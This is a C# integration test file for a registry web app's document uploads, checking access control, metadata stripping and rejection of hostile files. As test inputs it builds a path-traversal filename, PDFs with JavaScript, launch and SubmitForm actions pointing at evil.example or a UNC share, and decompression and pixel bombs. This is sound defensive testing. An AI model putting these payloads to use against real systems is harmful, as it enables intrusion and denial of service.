using System.Buffers.Binary;
using System.IO.Compression;
using System.IO.Hashing;
using System.Net;
using System.Text;
using DiasporaRegistry.Data.Accounts;
using DiasporaRegistry.IntegrationTests.App;
using DiasporaRegistry.Web.Documents;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Hosting;
using SkiaSharp;

namespace DiasporaRegistry.IntegrationTests.Pages.Register;

public sealed class DocumentTests(RegistryApp app) : IClassFixture<RegistryApp>
{
    private static readonly byte[] Pdf = Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n");

    [Fact]
    public async Task A_document_is_kept_handed_to_its_owner_and_removed_with_its_file()
    {
        var secretary = await BeginAsync("documentos");
        var page = await UploadAsync(secretary, "../../acta <2024>.exe", "application/x-msdownload", Pdf);
        Assert.Empty(page.Errors);
        Assert.Contains("acta 2024.pdf", page.Text, StringComparison.Ordinal);
        await UploadAsync(secretary, "otra vez.pdf", "application/pdf", Pdf);
        await using var db = app.Open();
        var document = await db.Documents.SingleAsync(d => d.RegistrationId == secretary.RegistrationId, TestContext.Current.CancellationToken);
        Assert.Single(FilesOf(secretary));

        var address = new Uri($"{secretary.Application}/documents/{document.Id}", UriKind.Relative);
        using var answer = await secretary.Visitor.Client.GetAsync(address, TestContext.Current.CancellationToken);
        Assert.Equal("attachment", answer.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal(Pdf, await answer.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken));

        var stranger = await Secretary.NewAsync(app, "curiosa");
        Assert.Equal(HttpStatusCode.NotFound, (await stranger.Visitor.GetAsync(address.ToString())).Status);
        await secretary.Visitor.SubmitAsync(await secretary.OpenAsync("documents"), [], "main form[action*=Remove]");
        Assert.Equal(HttpStatusCode.NotFound, (await secretary.Visitor.GetAsync(address.ToString())).Status);
        Assert.False(await db.Documents.AnyAsync(d => d.RegistrationId == secretary.RegistrationId, TestContext.Current.CancellationToken));
        Assert.Empty(FilesOf(secretary));
    }

    [Fact]
    public async Task Reviewers_of_the_country_read_documents_once_submitted_and_those_of_another_do_not()
    {
        var secretary = await BeginAsync("revisada");
        await UploadAsync(secretary, "acta.pdf", "application/pdf", Pdf);
        await using var db = app.Open();
        var id = await db.Documents.Where(d => d.RegistrationId == secretary.RegistrationId).Select(d => d.Id).SingleAsync(TestContext.Current.CancellationToken);
        var address = $"{secretary.Application}/documents/{id}";
        var mexican = await app.SignInAsync(await app.AddAccountAsync("mx@example.org", roles: (StaffRole.MinistryReviewer, "MX", null)));
        var salvadoran = await app.SignInAsync(await app.AddAccountAsync("sv@example.org", roles: (StaffRole.MinistryReviewer, "SV", null)));
        Assert.Equal(HttpStatusCode.NotFound, (await mexican.GetAsync(address)).Status);
        await secretary.FillHometownClubAsync("Club con Acta");
        await secretary.SendAsync();
        Assert.Equal(HttpStatusCode.OK, (await mexican.GetAsync(address)).Status);
        Assert.Equal(HttpStatusCode.NotFound, (await salvadoran.GetAsync(address)).Status);
    }

    [Fact]
    public async Task A_photograph_is_drawn_anew_without_what_it_says_of_its_taker()
    {
        var secretary = await BeginAsync("foto");
        using var bitmap = new SKBitmap(40, 30);
        using var encoded = bitmap.Encode(SKEncodedImageFormat.Jpeg, 90);
        var jpeg = encoded.ToArray();
        var secret = Encoding.ASCII.GetBytes("Exif\0\0GPS-SECRETO");
        byte[] withExif = [.. jpeg[..2], 0xFF, 0xE1, 0, (byte)(secret.Length + 2), .. secret, .. jpeg[2..], .. Encoding.ASCII.GetBytes("<script>cola</script>")];
        Assert.Empty((await UploadAsync(secretary, "foto.jpg", "image/jpeg", withExif)).Errors);
        await using var db = app.Open();
        var id = await db.Documents.Where(d => d.RegistrationId == secretary.RegistrationId).Select(d => d.Id).SingleAsync(TestContext.Current.CancellationToken);
        var kept = await secretary.Visitor.Client.GetByteArrayAsync(new Uri($"{secretary.Application}/documents/{id}", UriKind.Relative), TestContext.Current.CancellationToken);
        Assert.True(kept.AsSpan().IndexOf("SECRETO"u8) < 0);
        Assert.True(kept.AsSpan().IndexOf("<script>"u8) < 0);
    }

    [Fact]
    public async Task Files_that_are_too_large_of_another_kind_or_of_two_kinds_are_refused()
    {
        var secretary = await BeginAsync("rechazos");
        Assert.Contains(await ErrorsAsync(secretary, [.. Pdf[..^6], .. new byte[5 * 1024 * 1024], .. Pdf[^6..]]), e => e.Contains("demasiado grande", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, "<html><script>alert(1)</script>"u8.ToArray()), e => e.Contains("no es un PDF", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, [.. Pdf, .. "PK\u0003\u0004 zip PK\u0005\u0006"u8]), e => e.StartsWith("No pudimos leer", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, [0xFF, 0xD8, 0xFF, 0xE0, .. Pdf]), e => e.StartsWith("No pudimos leer", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, "%PDF-1.4 /OpenAction /JavaScript (x) %%EOF"u8.ToArray()), e => e.Contains("programas", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, "%PDF-1.4 /OpenAction /J#61vaScript (x) %%EOF"u8.ToArray()), e => e.Contains("programas", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, Packed("<</S/JavaScript/JS(app.alert(1))>>")), e => e.Contains("programas", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, Packed(new string(' ', 40_000_000))), e => e.StartsWith("No pudimos leer", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, Packed("<</Type/Catalog>>", "[/ASCIIHexDecode/FlateDecode]")), e => e.StartsWith("No pudimos leer", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, Packed("<</Type/Catalog>>", "/FlateDecode/Note (stream) /Other")), e => e.StartsWith("No pudimos leer", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, Packed("<</S/Launch>>", $"/FlateDecode % {new string('x', 9_000)} obj\n")), e => e.Contains("programas", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, HugeImage(10_000)), e => e.Contains("demasiados píxeles", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, WordBomb()), e => e.Contains("no es un PDF", StringComparison.Ordinal));
        Assert.Contains(await ErrorsAsync(secretary, []), e => e.StartsWith("Elija un archivo", StringComparison.Ordinal));
        await using var db = app.Open();
        Assert.False(await db.Documents.AnyAsync(d => d.RegistrationId == secretary.RegistrationId, TestContext.Current.CancellationToken));
        Assert.Empty(FilesOf(secretary));
    }

    [Theory]
    [InlineData("<</S/SubmitForm/F(https://evil.example)>>", "programas")]
    [InlineData("<</S/ImportData/F(a.fdf)>>", "programas")]
    [InlineData(@"<</S/GoToR/F(\\\\evil\\share\\a.pdf)/D[0/Fit]>>", "programas")]
    [InlineData(@"<</S /Thread/F(\\\\evil\\share\\a.pdf)>>", "programas")]
    [InlineData("<</AcroForm<</XFA 9 0 R>>>>", "programas")]
    [InlineData("<</Encrypt 9 0 R>>", "protegido")]
    public async Task A_PDF_that_sends_fetches_or_is_locked_is_refused_in_words(string part, string word)
    {
        var secretary = await BeginAsync($"actua.{Guid.CreateVersion7():N}");
        var plain = Encoding.ASCII.GetBytes($"%PDF-1.7\n1 0 obj\n{part}\nendobj\n%%EOF\n");
        Assert.Contains(await ErrorsAsync(secretary, plain), e => e.Contains(word, StringComparison.Ordinal));
        if (word == "programas")
            Assert.Contains(await ErrorsAsync(secretary, Packed(part)), e => e.Contains(word, StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_PDF_with_links_bookmarks_articles_and_chance_letters_is_kept()
    {
        var secretary = await BeginAsync("enlaces");
        var pdf = Packed("<</S/URI/URI(https://club.example)>><</S/GoTo/D[3 0 R/Fit]>><</Type/Thread/F 7 0 R>><</Launches 1/JSON 2>>stream \u00ff/JS\u00fe endstream");
        Assert.Empty((await UploadAsync(secretary, "boletin.pdf", "application/pdf", pdf)).Errors);
    }

    [Fact]
    public async Task A_PDF_of_a_hundred_thousand_streams_is_refused_at_once()
    {
        var secretary = await BeginAsync("rafaga");
        byte[] one = [.. "/ObjStm/Filter/FlateDecode stream\n"u8, .. Deflated("a"u8.ToArray())];
        byte[] pdf = [.. "%PDF-1.7\n"u8, .. Enumerable.Repeat(one, 100_000).SelectMany(bytes => bytes), .. "\n%%EOF"u8];
        var started = TimeProvider.System.GetTimestamp();
        Assert.Contains(await ErrorsAsync(secretary, pdf), e => e.StartsWith("No pudimos leer", StringComparison.Ordinal));
        Assert.True(TimeProvider.System.GetElapsedTime(started) < TimeSpan.FromSeconds(20));
    }

    [Fact]
    public async Task Beyond_ten_documents_a_file_is_refused_before_it_is_looked_into_and_the_tenth_sent_again_is_the_tenth()
    {
        var secretary = await BeginAsync("once");
        var page = await secretary.OpenAsync("documents");
        for (var number = 0; number < 10; number++)
            Assert.Empty((await SendAsync(Numbered(number))).Errors);
        Assert.StartsWith("Ya hay 10", Assert.Single((await SendAsync("<html>"u8.ToArray())).Errors), StringComparison.Ordinal);
        Assert.Empty((await SendAsync(Numbered(9))).Errors);

        // The page was opened while there was room.
        Task<VisitedPage> SendAsync(byte[] bytes) => secretary.Visitor.UploadAsync(page, "Form.File", "acta.pdf", "application/pdf", bytes, [("Form.Kind", "founding_minutes")], "#add-document");

        static byte[] Numbered(int number) => Encoding.ASCII.GetBytes($"%PDF-1.4\n% {number}\n%%EOF\n");
    }

    [Fact]
    public async Task A_PDF_whose_objects_are_packed_is_kept_as_it_came()
    {
        var secretary = await BeginAsync("empacado");
        var pdf = Packed("<</Type/Catalog/Pages 2 0 R>>");
        Assert.Empty((await UploadAsync(secretary, "acta.pdf", "application/pdf", pdf)).Errors);
        await using var db = app.Open();
        var id = await db.Documents.Where(d => d.RegistrationId == secretary.RegistrationId).Select(d => d.Id).SingleAsync(TestContext.Current.CancellationToken);
        Assert.Equal(pdf, await secretary.Visitor.Client.GetByteArrayAsync(new Uri($"{secretary.Application}/documents/{id}", UriKind.Relative), TestContext.Current.CancellationToken));
    }

    // A PDF whose objects lie in an object stream, where no search of its bytes finds them.
    private static byte[] Packed(string objects, string filter = "/FlateDecode") =>
        [.. Encoding.ASCII.GetBytes($"%PDF-1.5\n5 0 obj\n<</Type/Obj#53tm/N 1/First 4/Filter {filter}>>\nstream\n"), .. Deflated(Encoding.ASCII.GetBytes($"1 0 {objects}")), .. "\nendstream\nendobj\n%%EOF\n"u8];

    // A PNG of so many pixels each way, all of them white, in a few kilobytes.
    private static byte[] HugeImage(int side)
    {
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, side);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), side);
        header[8] = 1;
        return [0x89, .. "PNG\r\n\u001a\n"u8, .. Chunk("IHDR"u8, header), .. Chunk("IDAT"u8, Deflated(new byte[side * (side / 8 + 1)])), .. Chunk("IEND"u8, [])];
    }

    private static byte[] Chunk(ReadOnlySpan<byte> type, ReadOnlySpan<byte> data)
    {
        byte[] body = [.. type, .. data];
        var (length, sum) = (new byte[4], new byte[4]);
        BinaryPrimitives.WriteInt32BigEndian(length, data.Length);
        BinaryPrimitives.WriteUInt32BigEndian(sum, Crc32.HashToUInt32(body));
        return [.. length, .. body, .. sum];
    }

    // A text document of a few kilobytes that unpacks to far more than its size.
    private static byte[] WordBomb()
    {
        using var file = new MemoryStream();
        using (var archive = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var document = archive.CreateEntry("word/document.xml").Open();
            document.Write(new byte[50_000_000]);
        }

        return file.ToArray();
    }

    private static byte[] Deflated(byte[] bytes)
    {
        using var packed = new MemoryStream();
        using (var deflating = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true))
            deflating.Write(bytes);
        return packed.ToArray();
    }

    // What lies on the disk of an application, also what was written aside.
    private IEnumerable<FileInfo> FilesOf(Secretary secretary)
    {
        var root = DocumentStore.RootOf(app.Services.GetRequiredService<IConfiguration>(), app.Services.GetRequiredService<IHostEnvironment>());
        var folder = new DirectoryInfo(Path.Combine(root, $"{secretary.RegistrationId:N}"));
        return folder.Exists ? folder.EnumerateFiles() : [];
    }

    private static async Task<IReadOnlyList<string>> ErrorsAsync(Secretary secretary, byte[] bytes) => (await UploadAsync(secretary, "acta.pdf", "application/pdf", bytes)).Errors;

    private static async Task<VisitedPage> UploadAsync(Secretary secretary, string name, string type, byte[] bytes) =>
        await secretary.Visitor.UploadAsync(await secretary.OpenAsync("documents"), "Form.File", name, type, bytes, [("Form.Kind", "founding_minutes")], "#add-document");

    private async Task<Secretary> BeginAsync(string name)
    {
        var secretary = await Secretary.NewAsync(app, name);
        await secretary.BeginAsync("MX");
        return secretary;
    }
}
